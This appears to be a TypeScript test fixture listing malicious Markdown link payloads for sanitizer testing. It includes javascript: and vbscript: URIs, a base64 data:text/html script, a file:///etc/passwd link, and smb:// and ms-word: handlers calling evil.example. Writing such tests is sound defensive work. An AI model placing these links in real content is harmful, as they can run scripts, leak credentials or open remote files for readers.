import { behind } from '../attack.ts';

/** Links that lead elsewhere. */
export default behind('links', {
  'link-by-reference': {
    aim: 'hide the script of a link below the text',
    also: 'hosts',
    ticket: { comments: ['Open [the cart][c].\n\n[c]: javascript:alert%281%29'] },
  },
  'link-data': {
    aim: 'open a page that the link itself holds',
    also: 'hosts',
    ticket: { description: 'Open [the cart](data:text/html;base64,PHNjcmlwdD4=).' },
  },
  'link-file': {
    aim: 'open a file of the reader',
    also: 'hosts',
    ticket: { description: 'Open [the cart](file:///etc/passwd) or [that](smb://evil.example/x).' },
  },
  'link-javascript-case': {
    aim: 'run a script from a link in odd letters',
    also: 'hosts',
    ticket: { description: 'Open [the cart](JaVaScRiPt:alert%281%29).' },
  },
  'link-javascript': {
    aim: 'run a script from a link',
    also: 'hosts',
    ticket: { description: 'Open [the cart](javascript:alert%281%29).' },
  },
  'link-program': {
    aim: 'start a program of the reader',
    also: 'hosts',
    ticket: { description: 'Open [the cart](ms-word:ofe%7Cu%7Chttps://evil.example/a.docx).' },
  },
  'link-vbscript': {
    aim: 'run a script of an old browser',
    also: 'hosts',
    ticket: { description: 'Open [the cart](vbscript:msgbox).' },
  },
});
